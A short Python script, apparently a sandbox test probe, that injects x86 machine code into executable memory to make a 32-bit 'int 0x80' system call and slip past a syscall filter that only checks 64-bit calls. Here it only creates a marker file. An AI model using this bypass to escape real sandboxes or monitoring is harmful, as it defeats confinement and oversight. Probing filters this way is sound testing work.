"""Calls the kernel as a 32-bit program does, which a filter for 64 bits does not look at."""
import ctypes

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
low = libc.mmap(None, 4096, 7, 0x62, -1, 0)  # MAP_32BIT | MAP_ANONYMOUS | MAP_PRIVATE
path = b"@TRACE@/int80\0"
# push rbx; mov ebx, path; mov ecx, 0666; mov eax, 8 (creat); int 0x80; pop rbx; ret
code = b"\x53\xbb" + (low + 256).to_bytes(4, "little") + b"\xb9\xb6\x01\x00\x00\xb8\x08\x00\x00\x00\xcd\x80\x5b\xc3"
ctypes.memmove(low, code, len(code))
ctypes.memmove(low + 256, path, len(path))
raise OSError(ctypes.CFUNCTYPE(ctypes.c_int)(low)())
